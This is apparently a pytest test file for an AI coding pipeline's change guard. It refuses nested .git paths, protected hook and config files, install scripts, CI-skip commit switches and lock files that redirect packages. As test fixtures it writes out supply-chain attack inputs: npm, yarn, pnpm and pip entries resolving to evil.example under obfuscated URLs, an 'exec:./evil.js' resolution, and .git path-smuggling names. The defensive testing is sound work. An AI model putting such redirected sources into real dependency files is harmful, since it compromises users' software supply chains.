"""What a change may hold, what a commit may say, which sessions may write: rules without any git."""

from __future__ import annotations

import json
import time
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from kilo_pipelines.cloud_agent.protocol import SessionSpec
from kilo_pipelines.core import origins
from kilo_pipelines.core.changes import MAX_BYTES, MAX_FILES, Change, commit_text, refusal_of
from kilo_pipelines.core.protected import is_protected
from kilo_pipelines.core.reasons import Reason
from kilo_pipelines.settings import Settings

MODES = ("000000", "100644", "100755", "100664", "120000", "160000", "104755", "040000")
NAMES = st.sampled_from(["a.py", "src", ".git", ".GIT", "git~1", ".git ", "..", "", "x\\y", "a\u202eb", "a\nb", "a\udcff", "é"])
SHA = "a" * 40


def reason(*changes: Change, allowed: tuple[str, ...] = ()) -> Reason | None:
    found = refusal_of(changes, allowed)
    return None if found is None else found.reason


@given(st.lists(NAMES, min_size=1, max_size=3), st.sampled_from(MODES), st.sampled_from(MODES))
def test_only_plain_files_with_plain_names_pass(names: list[str], old: str, new: str) -> None:
    path = "/".join(names)
    passed = reason(Change(path, old, new, 1)) is None
    plain = set(names) <= {"a.py", "src", "é"}
    removed = new == "000000" and old != "160000"
    assert passed == (removed or (plain and new in ("100644", "100755") and old != "160000"))


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (Change("a", "000000", "160000"), Reason.CHANGE_GITLINK),
        (Change("a", "160000", "000000"), Reason.CHANGE_GITLINK),
        (Change("a", "100644", "120000"), Reason.CHANGE_SYMLINK),
        (Change("a", "120000", "000000"), None),
        (Change("a", "100644", "104755"), Reason.CHANGE_MODE),
        (Change("a/.git/config", "000000", "100644"), Reason.CHANGE_NESTED_REPOSITORY),
        (Change("a/.git::$INDEX_ALLOCATION/config", "000000", "100644"), Reason.CHANGE_NESTED_REPOSITORY),
        (Change("a/GIT~2 ", "000000", "100644"), Reason.CHANGE_NESTED_REPOSITORY),
        (Change("a/.g\u200cit/config", "000000", "100644"), Reason.CHANGE_PATH),
        (Change("a/.gitignore", "000000", "100644"), None),
        (Change(".github/workflows/ci.yml", "100644", "000000"), Reason.CHANGE_PROTECTED),
        (Change(".GitHub/Workflows/ci.yml", "000000", "100644"), Reason.CHANGE_PROTECTED),
        (Change("package-lock.json", "100644", "100644", MAX_BYTES), None),
        (Change("package-lock.json", "100644", "100644", MAX_BYTES + 1), Reason.CHANGE_TOO_LARGE),
    ],
)
def test_each_kind_of_change_has_its_outcome(change: Change, expected: Reason | None) -> None:
    assert reason(change) is expected


def test_a_change_is_neither_empty_nor_more_than_anybody_reads() -> None:
    files = [Change(f"f{number}", "000000", "100644", 1) for number in range(MAX_FILES + 1)]
    assert (reason(), reason(*files[:-1]), reason(*files)) == (Reason.NO_CHANGES, None, Reason.CHANGE_TOO_LARGE)


def test_an_owner_lets_through_what_it_names_and_nothing_beside() -> None:
    allowed = (".github/workflows/*",)
    assert reason(Change(".github/workflows/x.yml", "000000", "100644"), allowed=allowed) is None
    assert reason(Change(".github/CODEOWNERS", "000000", "100644"), allowed=allowed) is Reason.CHANGE_PROTECTED


@pytest.mark.parametrize(
    "path",
    [
        ".npmrc",
        "sub/.npmrc",
        ".yarnrc.yml",
        ".githooks/pre-push",
        ".husky/x",
        "sub/AGENTS.md",
        ".gitattributes",
        "lefthook.yml",
        "web/.husky/x",
        "web/lefthook.yml",
        ".yarn/releases/yarn-4.cjs",
        "web/.yarn/plugins/x.cjs",
        ".yarn/cache/x.zip",
        ".pnp.cjs",
        ".mvn/wrapper/maven-wrapper.jar",
        "gradle/wrapper/gradle-wrapper.jar",
        "app/gradle/wrapper/x.properties",
        "gradlew.bat",
        ".cargo/config.toml",
        "NuGet.Config",
        ".bundle/config",
        "binding.gyp",
        "native/binding.gyp",
    ],
)
def test_what_runs_or_is_obeyed_without_being_asked_is_protected(path: str) -> None:
    assert is_protected(path)


@pytest.mark.parametrize("path", ["package.json", "package-lock.json", "poetry.lock", "requirements.txt", "src/github/x.py"])
def test_what_an_update_of_a_package_changes_is_not(path: str) -> None:
    assert not is_protected(path)


def _npm(resolved: str = "", version: str = "1.0.0", **package: Any) -> str:
    entry = {"version": version, "integrity": "sha512-AA/BB==", "funding": {"url": "https://money.example"}}
    return json.dumps({"name": "demo", "packages": {"node_modules/x": entry | {"resolved": resolved} | package}})


OK = "https://registry.example/x/-/x-1.0.0.tgz"
YARN = f'x@^1.0.0:\n  version "1.0.0"\n  resolved "{OK}#aa"\n'
PNPM = "packages:\n  x@1.0.0:\n    resolution: {integrity: sha512-AA/BB==}\n"
POETRY = '[[package]]\nname = "x"\nversion = "1.0"\n'
# Each old content is one line of honest text shorter than the new one; a host that is allowed is registry.example.
FOREIGN = [
    *(
        ("package-lock.json", _npm(OK), _npm(address))
        for address in (
            "https://evil.example/x.tgz",
            "https:/evil.example/x.tgz",
            "https:\\\\evil.example/x.tgz",
            "https://registry.example@evil.example/x.tgz",
            "https://registry.example%2F@evil.example/x.tgz",
            "https://registry.example\\@evil.example/x.tgz",
            "https://registry.example.evil.example/x.tgz",
            "https://registry.example:8443/x.tgz",
            "ht\ntps://evil.example/x.tgz",
            "git+ssh://git@github.com/evil/x.git#aa",
            "github:evil/x#aa",
            "evil/x",
            "file:x.tgz",
            "x.tgz",
        )
    ),
    ("package-lock.json", _npm(OK), _npm(OK).replace(OK, "https:\\/\\/evil.example\\/x.tgz")),
    ("package-lock.json", _npm(OK), _npm(OK).replace(OK, "\\u0068ttps://evil.example/x.tgz")),
    (
        "package-lock.json",
        _npm("https://codeload.github.com/good/x/tar.gz/aa"),
        _npm("https://codeload.github.com/evil/x/tar.gz/aa"),
    ),
    ("sub/npm-shrinkwrap.json", None, _npm("https://evil.example/x.tgz")),
    ("package.json", "{}", '{"dependencies": {"x": "https://evil.example/x.tgz"}}'),
    ("package.json", "{}", '{"dependencies": {"x": "evil/x"}}'),
    ("package.json", "{}", '{"overrides": {"y": {"x": "git@evil.example:x.git"}}}'),
    ("package.json", "{}", '{"packageManager": "yarn@https://evil.example/yarn.js"}'),
    ("package.json", None, '{"pnpm": {"overrides": {"x": "link:./evil"}}}'),
    ("yarn.lock", YARN, YARN.replace("registry.example", "evil.example")),
    ("yarn.lock", YARN, YARN.replace("https://registry.example", "https:\\/\\/evil.example")),
    ("yarn.lock", YARN, YARN.replace("https", "\\u0068ttps").replace("registry.example", "evil.example")),
    ("yarn.lock", "", '"x@npm:^1":\n  resolution: "x@npm:1.0.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fx.tgz"\n'),
    ("yarn.lock", "", '"x@evil/x":\n  resolution: "x@evil/x#commit=aa"\n'),
    ("yarn.lock", "", '"x@exec:./evil.js":\n  version: 0.0.0\n'),
    ("pnpm-lock.yaml", PNPM, PNPM.replace("AA/BB==", "AA/BB==, tarball: https://evil.example/x.tgz")),
    ("pnpm-lock.yaml", PNPM, PNPM.replace("AA/BB==", "AA/BB==,\n    deprecated: x, tarball: https://evil.example/x.tgz")),
    ("pnpm-lock.yaml", PNPM, PNPM.replace("AA/BB==", 'AA/BB==, tarball: "https:\\\n  //evil.example/x.tgz"')),
    ("pnpm-lock.yaml", PNPM, PNPM.replace("AA/BB==", "AA/BB==, tarball: file:x.tgz")),
    ("pnpm-lock.yaml", PNPM, PNPM.replace("AA/BB==", "AA/BB==, repo: git@evil.example:evil/x.git, type: git")),
    ("requirements.txt", "x==1.0\n", "x==1.0\n--index-url https://evil.example/simple\n"),
    ("requirements.txt", "x==1.0\n", "x==1.0\n--index-url https://${HOST}/simple\n"),
    ("requirements.txt", "x==1.0\n", "x @ https://evil.example/x.whl\n"),
    ("requirements.txt", "x==1.0\n", "x @ htt\\\nps://evil.example/x.whl\n"),
    ("requirements/prod.txt", "x==1.0\n", "x==1.0\n-r more.lst\n"),
    ("requirements-dev.in", "x==1.0\n", "./evil-1.0.whl\n"),
    ("constraints.txt", "x==1.0\n", "x==1.0 --config-settings=a=b\n"),
    ("poetry.lock", POETRY, POETRY + '[package.source]\ntype = "url"\nurl = "https://evil.example/x.whl"\n'),
    ("uv.lock", POETRY, POETRY + 'source = { git = "https://github.com/evil/x?rev=aa#aa" }\n'),
    ("Pipfile.lock", "{}", '{"default": {"x": {"file": "https:\\/\\/evil.example/x.whl"}}}'),
]


@pytest.mark.parametrize(("path", "old", "new"), FOREIGN)
def test_packages_come_from_no_new_place(path: str, old: str | None, new: str) -> None:
    before = None if old is None else old.encode()
    assert origins.reads(path) and old != new
    found = origins.refusal_in(path, before, new.encode(), {"registry.example"})
    assert found is not None and found.reason is Reason.CHANGE_FOREIGN_SOURCE and found.detail.startswith(f"{path}: ")
    # What the former content named may stay, whatever it is.
    assert origins.refusal_in(path, new.encode(), new.encode(), set()) is None


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("package-lock.json", _npm(OK), _npm(OK.replace("1.0.0", "1.0.1"), "1.0.1", license="MIT/X11", bin={"x": "bin/x.js"})),
        ("package-lock.json", _npm(OK), _npm(OK, funding={"url": "https://other.example"}, deprecated="see https://any.example")),
        ("package-lock.json", _npm("https://private.example/a.tgz"), _npm("https://private.example/b.tgz")),
        ("package-lock.json", _npm("git+ssh://git@github.com/good/x.git#aa"), _npm("git+ssh://git@github.com/good/x.git#bb")),
        ("package-lock.json", None, '{"dependencies": {"x": {"version": "1.0.0", "integrity": "sha1-a/b="}}}'),
        ("package.json", "{}", '{"dependencies": {"x": "^1.0 || ~2.0", "y": "npm:@scope/y@1.0.0", "z": "workspace:*"}}'),
        (
            "package.json",
            "{}",
            '{"version": "2.0.0", "homepage": "https://any.example", "packageManager": "yarn@4.0.0+sha224.aa"}',
        ),
        ("yarn.lock", YARN, YARN.replace("1.0.0", "1.0.1")),
        ("yarn.lock", "", '"@scope/x@npm:^1.0.0, @scope/x@npm:^1.1.0":\n  resolution: "@scope/x@npm:1.2.0"\n'),
        ("pnpm-lock.yaml", PNPM, PNPM.replace("1.0.0", "1.0.1") + "    deprecated: Use y, see https://any.example/x\n"),
        ("pnpm-lock.yaml", PNPM, PNPM + "    deprecated: 'It''s old: see https://any.example'\n  '@s/y@1.0.0(x@1.0.0)': {}\n"),
        ("requirements.txt", "x==1.0\n", "x==1.1 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n    # via -r a.in\n"),
        ("requirements.txt", "-r base.txt\n", "-r base.txt\nx[a,b]>=1,<2; python_version < '3.9'\n"),
        ("poetry.lock", POETRY, POETRY.replace("1.0", "1.1") + 'description = "See https://any.example"\n'),
        ("uv.lock", POETRY + 'url = "https://files.example/a"\n', POETRY + 'url = "https://files.example/b"\n'),
    ],
)
def test_an_honest_update_of_a_lock_file_passes(path: str, old: str | None, new: str) -> None:
    found = origins.refusal_in(path, None if old is None else old.encode(), new.encode(), {"registry.example"})
    assert found is None, found


@pytest.mark.parametrize("name", ["preinstall", "install", "postinstall", "prepare", "prepublish", "prepublishOnly", "prepack"])
def test_no_script_that_runs_by_itself_is_added_or_changed(name: str) -> None:
    def of(**scripts: str) -> bytes:
        return json.dumps({"scripts": scripts}).encode()

    for old in (None, b"{}", of(test="a"), of(**{name: "a"})):
        found = origins.refusal_in("web/package.json", old, of(**{name: "b"}), set())
        assert found is not None and (found.reason, found.detail) == (Reason.CHANGE_INSTALL_SCRIPT, f"web/package.json: {name}")
    for old, new in ((of(**{name: "a"}), of(**{name: "a"}, test="b")), (of(**{name: "a"}), of())):
        assert origins.refusal_in("package.json", old, new, set()) is None


@pytest.mark.parametrize("new", [b"{", b"[" * 100_000, b"\xff\xfe{\x00}\x00" + b"x"])
def test_what_cannot_be_read_is_refused(new: bytes) -> None:
    found = origins.refusal_in("package.json", b"{}", new, set())
    assert found is not None and found.reason is Reason.CHANGE_UNREADABLE


@pytest.mark.parametrize(
    "piece", [" ", "'", '"', "@", "a", "/", "\\", "a@", "https:", "description = 'a", "    deprecated: a ", "%25"]
)
def test_a_large_file_of_anything_is_read_in_time(piece: str) -> None:
    began = time.monotonic()
    for path in ("yarn.lock", "requirements.txt"):
        origins.refusal_in(path, b"", (piece * 300_000).encode(), set())
    assert time.monotonic() - began < 5


@given(st.text(max_size=300))
def test_a_commits_message_is_never_a_switch_a_mention_or_endless(words: str) -> None:
    for switch in ("[skip ci]", "[ci skip]", "[no ci]", "[skip actions]", "[actions skip]", "skip-checks: true", "@team"):
        told = commit_text(f"{words} {switch}\n\n{words}\n{switch}")
        assert switch not in told and len(told.splitlines()[0]) <= 73 and "\x00" not in told
    assert len(commit_text(words * 100)) <= 4_001


def spec(**changes: Any) -> SessionSpec:
    values: dict[str, Any] = {
        "session_id": UUID(int=1),
        "owner_id": UUID(int=2),
        "service": "remediation",
        "repository": {"provider": "github", "external_id": 1, "full_name": "a/b", "clone_url": "u", "default_branch": "main"},
        "pull_number": None,
        "base_ref": "main",
        "base_sha": SHA,
        "head_sha": SHA,
        "checkout_ref": "refs/heads/main",
        "agent": "scripted",
        "model": "m",
        "writes": True,
        "branch": "kilo/item/1",
    }
    return SessionSpec.model_validate(values | changes)


READS: dict[str, Any] = {"writes": False, "branch": None}


@pytest.mark.parametrize(
    "changes",
    [
        {"service": "code_review"},
        {"service": "security_analysis"},
        {"service": "code_review", **READS},
        {"branch": None},
        {"pull_number": 7},
        {"base_sha": "b" * 40},
        {**READS, "branch": "kilo/item/1"},
        {**READS, "registries": ["npm"]},
        {**READS, "allow_protected": ["*"]},
        *(
            {"branch": name}
            for name in ("main", "kilo/1", "kilo/item/0", "kilo/../1", "kilo/a..b/1", "kilo/-x/1", "Kilo/x/1", "kilo/x/1\n")
        ),
        *(
            {"branch": name}
            for name in (
                "refs/heads/../1",
                "kilo/x.lock/1",
                "/kilo/x/1",
                "kilo//x/1",
                "kilo/x/01",
                "kilo/x y/1",
                "kilo/" + "x" * 150 + "/1",
            )
        ),
    ],
)
def test_which_sessions_may_write_and_where_is_no_matter_of_the_caller(changes: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        spec(**changes)


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"branch": "kilo/0b2c3d4e-0000-4000-8000-000000000001/12"},
        {"service": "security_analysis", **READS},
        {"service": "code_review", "pull_number": 7, **READS},
    ],
)
def test_sessions_of_each_service_in_their_form(changes: dict[str, Any]) -> None:
    assert SessionSpec.model_validate(spec(**changes).model_dump(mode="json")) == spec(**changes)


def test_registries_come_from_the_homes_file_with_a_closed_base(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("KILO_REGISTRIES", raising=False)
    (tmp_path / "config.env").write_text(
        'KILO_REGISTRIES={"npm": "http://localhost:8090/npm", "pypi": "https://python.example/simple/"}\n'
    )
    assert Settings(home=tmp_path).registries == {"npm": "http://localhost:8090/npm/", "pypi": "https://python.example/simple/"}
    assert Settings(home=tmp_path / "other").registries == {}


@pytest.mark.parametrize(
    "base",
    [
        "http://registry.example/",
        "https://u:p@registry.example/",
        "https://registry.example/?x=1",
        "file:///etc/",
        "https:///x",
        "https://r.example/#x",
    ],
)
def test_a_registry_is_reached_by_https_without_credentials(base: str, tmp_path: Any) -> None:
    with pytest.raises(ValidationError):
        Settings(home=tmp_path, registries={"npm": base})
